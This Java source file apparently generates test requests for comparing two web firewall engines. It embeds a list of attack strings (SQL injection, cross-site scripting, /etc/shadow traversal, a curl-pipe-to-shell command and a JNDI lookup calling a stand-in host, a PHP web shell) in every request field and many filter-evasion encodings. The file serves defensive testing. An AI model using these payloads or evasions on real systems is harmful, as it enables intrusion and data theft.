package gatehouse.app;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Requests, and answers of the service, that two engines of one language should see alike: attacks
/// and harmless text in every place a request has, in several encodings, and messages at the edge
/// of their grammars.
final class PeerRequests {
  private static final String[] TEXTS = {
    "hello world",
    "O'Brien & Sons, 5% off (today only)",
    "1' or '1'='1' -- -",
    "-1 union all select null,table_name from information_schema.tables",
    "1;waitfor delay '0:0:9'--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=prompt(1)>",
    "javascript:/*--></title>*/alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; /bin/cat /etc/shadow",
    "$(curl http://198.51.100.7/x.sh|sh)",
    "() { :; }; echo vulnerable",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "http://198.51.100.7/shell.txt?",
    "${jndi:ldap://198.51.100.7/a}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "__proto__[admin]",
    "require('child_process').exec('id')",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==",
    "<!--#exec cmd=\"ls\" -->",
    "(&(uid=*)(userPassword=*))",
    "Set-Cookie: a=b\r\nX: y",
    "select * from users where name = 'x'",
    "a\u00e9\u00fc \u4f60\u597d",
  };

  private final List<FtwStage> requests = new ArrayList<>();

  static List<FtwStage> all() {
    PeerRequests made = new PeerRequests();
    made.places();
    made.disguises();
    made.edges();
    made.multipart();
    made.answers();
    return made.requests;
  }

  private void add(String name, String request) {
    requests.add(FtwStage.of(name, request.getBytes(StandardCharsets.UTF_8)));
  }

  private void get(String name, String target, String... fields) {
    add(name, "GET " + target + " HTTP/1.1\r\n" + head(fields) + "\r\n");
  }

  private void post(String name, String type, String body, String... fields) {
    add(
        name,
        "POST /submit HTTP/1.1\r\n"
            + head(fields)
            + (type.isEmpty() ? "" : "Content-Type: " + type + "\r\n")
            + "Content-Length: "
            + body.getBytes(StandardCharsets.UTF_8).length
            + "\r\n\r\n"
            + body);
  }

  private static String head(String... fields) {
    StringBuilder head =
        new StringBuilder(
            "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n"
                + "Connection: close\r\n");
    for (String field : fields) {
      head.append(field).append("\r\n");
    }
    return head.toString();
  }

  private static String percent(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static String json(String text) {
    return text.replace("\\", "\\\\")
        .replace("\"", "\\\"")
        .replace("\r", "\\r")
        .replace("\n", "\\n");
  }

  private static String xml(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
  }

  private static String line(String text) {
    return text.replace("\r", "").replace("\n", " ");
  }

  /// Each text in each place.
  private void places() {
    for (int i = 0; i < TEXTS.length; i++) {
      String text = TEXTS[i];
      String form = "application/x-www-form-urlencoded";
      get("query-" + i, "/search?lang=en&q=" + percent(text));
      get("name-" + i, "/search?" + percent(text) + "=1");
      get("path-" + i, "/files/" + percent(text).replace("+", "%20") + "/view");
      get("cookie-" + i, "/", "Cookie: theme=dark; pref=" + percent(text));
      get("referer-" + i, "/", "Referer: " + line(text));
      get("agent-" + i, "/", "User-Agent: " + line(text));
      get("field-" + i, "/", "X-Custom: " + line(text));
      post("form-" + i, form, "a=1&comment=" + percent(text));
      post("formname-" + i, form, percent(text) + "=1&a");
      post("json-" + i, "application/json", "{\"a\":[1,{\"b\":\"" + json(text) + "\"}]}");
      post("jsonkey-" + i, "application/json", "{\"" + json(text) + "\":true}");
      post("xml-" + i, "text/xml", "<a><b>x</b><c>" + xml(text) + "</c></a>");
      post("xmlattribute-" + i, "application/xml", "<a b=\"" + xml(text) + "\"/>");
      post("plain-" + i, "text/plain", text);
    }
  }

  /// Each text in each encoding.
  private void disguises() {
    for (int i = 0; i < TEXTS.length; i++) {
      String text = TEXTS[i];
      Map<String, String> encodings = new LinkedHashMap<>();
      encodings.put("twice", percent(percent(text)));
      encodings.put("unicode", unicode(text));
      encodings.put("entities", percent(entities(text)));
      encodings.put("escapes", percent(escapes(text)));
      encodings.put("css", percent(text.replace("a", "\\61 ").replace("s", "\\0073")));
      encodings.put("comments", percent(text.replace(" ", "/**/")));
      encodings.put("case", percent(swapped(text)));
      encodings.put("nul", percent(text).replace("t", "t%00"));
      encodings.put("wide", percent(text.replace('<', '\uff1c').replace('\'', '\uff07')));
      encodings.put("broken", percent(text) + "%zz%4");
      encodings.forEach((name, value) -> get(name + "-" + text.hashCode(), "/x?v=" + value));
    }
  }

  private static String unicode(String text) {
    StringBuilder out = new StringBuilder();
    text.chars().forEach(c -> out.append("%u").append(String.format("%04x", c)));
    return out.toString();
  }

  private static String entities(String text) {
    StringBuilder out = new StringBuilder();
    text.chars()
        .forEach(
            c -> out.append(c % 2 == 0 ? "&#" + c + ";" : "&#x" + Integer.toHexString(c) + ";"));
    return out.toString();
  }

  private static String escapes(String text) {
    StringBuilder out = new StringBuilder();
    text.chars()
        .forEach(c ->
            out.append(
                c % 3 == 0
                    ? String.format("\\u%04x", c)
                    : c < 256 && c % 3 == 1 ? String.format("\\x%02x", c) : Character.toString(c)));
    return out.toString();
  }

  private static String swapped(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      out.append(i % 2 == 0 ? Character.toUpperCase(c) : Character.toLowerCase(c));
    }
    return out.toString();
  }

  /// Messages at the edge of their grammars.
  private void edges() {
    String form = "application/x-www-form-urlencoded";
    get("empty-query", "/?");
    get("fragment", "/a?b=1#c=<script>");
    get("repeated", "/?a=1&a=2&A=3&a=<script>");
    get("no-value", "/?a&b=&=c&&d");
    get("semicolon", "/?a=1;b=<script>alert(1)</script>");
    get("many", "/?" + "a=1&".repeat(300) + "z=2");
    get("long-name", "/?" + "n".repeat(150) + "=1");
    get("long-value", "/?a=" + "v".repeat(500));
    get("dots", "/a/../b/./c//d.php.bak");
    get("encoded-question", "/a%3fb=<script>");
    get("absolute", "http://shop.example/a?b=c");
    get("method-case", "/", "X-HTTP-Method-Override: DELETE");
    get("no-agent", "/", "User-Agent:");
    get("two-types", "/", "Content-Type: text/html", "Content-Type: application/json");
    get("cookies", "/", "Cookie: a=1;b=2; $Version=1;c; d=\"x;y\";=z");
    get("cookie-twice", "/", "Cookie: a=1", "Cookie: b=<script>");
    get("range", "/", "Range: bytes=0-1,2-3,4-5,6-7,8-9,10-11");
    get("extension", "/backup.sql");
    get("restricted", "/.git/config");
    get("proxy", "/", "Proxy: http://198.51.100.7");
    get("charset", "/", "Accept-Charset: utf-8, x");
    post("bad-percent", form, "a=%zz&b=%");
    post("form-charset", form + "; charset=ibm037", "a=1");
    post("no-type", "", "a=1&b=<script>");
    post("empty-body", form, "");
    post("json-bad", "application/json", "{\"a\":");
    post("json-deep", "application/json", "[".repeat(30) + "1" + "]".repeat(30));
    post(
        "json-types",
        "application/json",
        "{\"a\":null,\"b\":true,\"c\":-1.5e3,\"\":\"e\",\"d\":{}}");
    post("json-escapes", "application/json", "{\"a\":\"\\u003cscript\\u003e\",\"a\":\"\\/\\\\\"}");
    post("json-suffix", "application/vnd.api+json", "{\"a\":\"<script>\"}");
    post("xml-bad", "text/xml", "<a><b></a>");
    post("xml-cdata", "text/xml", "<a><![CDATA[<script>alert(1)</script>]]><!-- x --></a>");
    post("xml-entity", "text/xml", "<!DOCTYPE a [<!ENTITY e \"uni\">]><a>&e;on select</a>");
    post(
        "xml-namespace",
        "text/xml",
        "<x:a xmlns:x=\"urn:x\" x:b=\"<script\"/>".replace("<s", "&lt;s"));
    for (String method : List.of("HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND")) {
      add("method-" + method, method + " / HTTP/1.1\r\n" + head() + "Content-Length: 0\r\n\r\n");
    }
    add("http-1.0", "GET /?a=<script> HTTP/1.0\r\n" + head() + "\r\n");
  }

  private static String part(String disposition, String content) {
    return "--b0undary\r\nContent-Disposition: form-data; "
        + disposition
        + "\r\n\r\n"
        + content
        + "\r\n";
  }

  private void multipart() {
    String type = "multipart/form-data; boundary=b0undary";
    String end = "--b0undary--\r\n";
    for (int i = 0; i < TEXTS.length; i++) {
      post("part-" + i, type, part("name=\"a\"", TEXTS[i]) + end);
      String name = line(TEXTS[i]).replace("\\", "\\\\").replace("\"", "\\\"");
      post("file-" + i, type, part("name=\"f\"; filename=\"" + name + "\"", "content") + end);
    }
    post("part-lf", type, (part("name=\"a\"", "1") + end).replace("\r\n", "\n"));
    post("part-folded", type, part("name=\"a\";\r\n x=y", "1") + end);
    post("part-type", type, part("name=\"a\"\r\nContent-Type: text/x; charset=utf-7", "1") + end);
    post("part-unclosed", type, part("name=\"a\"", "1"));
    post("part-before", type, "junk\r\n" + part("name=\"a\"", "1") + end);
    post("part-after", type, part("name=\"a\"", "1") + end + "junk");
    post("part-quotes", type, part("name='a'", "1") + end);
    post("part-double-name", type, part("name=\"a\"; name=\"b\"", "1") + end);
    post("part-no-name", type, part("filename=\"x\"", "1") + end);
    post("part-inner", type, part("name=\"a\"", "--b0undaryx\r\n--other") + end);
    post(
        "boundary-quoted",
        "multipart/form-data; boundary=\"b0undary\"",
        part("name=\"a\"", "1") + end);
    post("boundary-twice", type + "; boundary=x", part("name=\"a\"", "1") + end);
    post("boundary-none", "multipart/form-data", part("name=\"a\"", "1") + end);
    post(
        "boundary-blank", "multipart/form-data; boundary= b0undary", part("name=\"a\"", "1") + end);
  }

  /// What the service answers.
  private void answers() {
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("mysql", "You have an error in your SQL syntax; check the manual");
    bodies.put("oracle", "ORA-00933: SQL command not properly ended");
    bodies.put("postgres", "ERROR: syntax error at or near \\\"x\\\" at character 5");
    bodies.put("mssql", "Unclosed quotation mark before the character string");
    bodies.put(
        "php", "<?php echo $_GET['a']; ?> <b>Warning</b>: fopen() in /var/www/x.php on line 3");
    bodies.put("java", "java.lang.NullPointerException at org.example.A.b(A.java:1)");
    bodies.put("asp", "Microsoft OLE DB Provider for SQL Server error '80040e14'");
    bodies.put("listing", "<title>Index of /backup</title> <h1>Index of /backup</h1>");
    bodies.put("shell", "<title>r57shell</title> uid=0(root) gid=0(root)");
    bodies.put("ruby", "ActionController::RoutingError");
    bodies.put(
        "iis", "<h2>HTTP Error 500.0 - Internal Server Error</h2> ADODB.Command (0x800A0BB9)");
    bodies.put("plain", "<p>All is well.</p>");
    bodies.forEach((name, body) -> {
      answer(name, 200, "text/html", body);
      answer(name + "-json", 200, "application/json", body);
      answer(name + "-error", 500, "text/html; charset=utf-8", body);
      answer(name + "-image", 200, "image/png", body);
    });
    for (int status : List.of(201, 301, 401, 403, 404, 502, 503)) {
      answer("status-" + status, status, "text/plain", "x");
    }
  }

  private void answer(String name, int status, String type, String body) {
    String text =
        "{\"status\": %d, \"headers\": {\"Content-Type\": \"%s\"}, \"body\": \"%s\"}"
            .formatted(status, type, body);
    add(
        "answer-" + name,
        "POST /reflect HTTP/1.1\r\n"
            + head()
            + "Content-Type: application/json\r\nContent-Length: "
            + text.length()
            + "\r\n\r\n"
            + text);
  }
}
